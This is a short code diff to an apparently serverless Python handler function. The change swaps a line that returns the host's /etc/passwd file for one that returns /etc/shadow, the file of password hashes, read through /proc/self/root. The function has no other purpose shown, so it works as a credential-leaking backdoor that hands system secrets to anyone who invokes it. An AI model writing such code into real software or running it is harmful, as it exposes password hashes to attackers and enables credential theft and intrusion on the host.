@@ -2,4 +2,4 @@
 
 
 def handler(event, context):
-    return open('/proc/self/root/etc/passwd').read()
+    return open('/proc/self/root/etc/shadow').read()
